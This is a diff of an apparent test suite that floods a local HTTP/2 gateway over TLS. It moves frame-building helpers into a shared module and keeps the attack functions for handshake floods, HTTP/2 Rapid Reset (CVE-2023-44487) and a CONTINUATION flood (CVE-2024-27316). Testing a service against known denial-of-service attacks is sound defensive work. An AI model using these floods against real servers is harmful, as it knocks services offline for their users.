@@ -1,38 +1,20 @@
 /** Floods over TLS: of handshakes, and of frames of HTTP/2 (RFC 9113). */
 import { setTimeout as delay } from 'node:timers/promises';
 import { connect, type TLSSocket } from 'node:tls';
+import {
+  CONTINUATION,
+  END_STREAM,
+  frame,
+  HEADERS,
+  literal,
+  OPENING,
+  PING,
+  REQUEST,
+  resetStreams,
+  SETTINGS,
+} from '../../support/http2-frames.ts';
 import { type Attack, arrived, attackerSocket, repeat } from './attacks.ts';
 import type { Target } from './flooded-gateway.ts';
-
-const [HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [1, 3, 4, 6, 9];
-const [END_STREAM, END_HEADERS] = [1, 4];
-const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
-
-const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head.writeUInt8(type, 3);
-  head.writeUInt8(flags, 4);
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-};
-
-const literal = (name: string, value: string): Buffer =>
-  Buffer.concat([
-    Buffer.from([0, name.length]),
-    Buffer.from(name),
-    Buffer.from([value.length]),
-    Buffer.from(value),
-  ]);
-
-const REQUEST = Buffer.concat([
-  literal(':method', 'POST'),
-  literal(':scheme', 'https'),
-  literal(':path', '/mcp'),
-  literal(':authority', '127.0.0.1'),
-  literal('content-type', 'application/json'),
-  literal('accept', '*/*'),
-]);
 
 const secure = async (
   { tlsPort }: Target,
@@ -65,7 +47,7 @@ const flowed = (tls: TLSSocket): Promise<unknown> =>
 const frames = (target: Target, address: number, bursts: () => Iterable<Buffer>): Attack =>
   repeat(4, async (attacker, signal) => {
     const tls = await secure(target, address + attacker, signal, 'h2');
-    tls.resume().write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
+    tls.resume().write(OPENING);
     for (const burst of bursts()) {
       if (tls.destroyed) break;
       if (!tls.write(burst)) await flowed(tls);
@@ -85,13 +67,7 @@ export const handshakes = (target: Target): Attack =>
 /** Streams that are reset as soon as they are opened (CVE-2023-44487). */
 export const rapidReset = (target: Target): Attack =>
   frames(target, 110, function* () {
-    const cancel = Buffer.from([0, 0, 0, 8]);
-    for (let stream = 1; stream < 4_000; stream += 200) {
-      const burst = [];
-      for (let at = stream; at < stream + 200; at += 2)
-        burst.push(frame(HEADERS, END_HEADERS, at, REQUEST), frame(RST_STREAM, 0, at, cancel));
-      yield Buffer.concat(burst);
-    }
+    for (let first = 1; first < 4_000; first += 200) yield resetStreams(first, 100);
   });
 
 /** Headers that never end (CVE-2024-27316). */
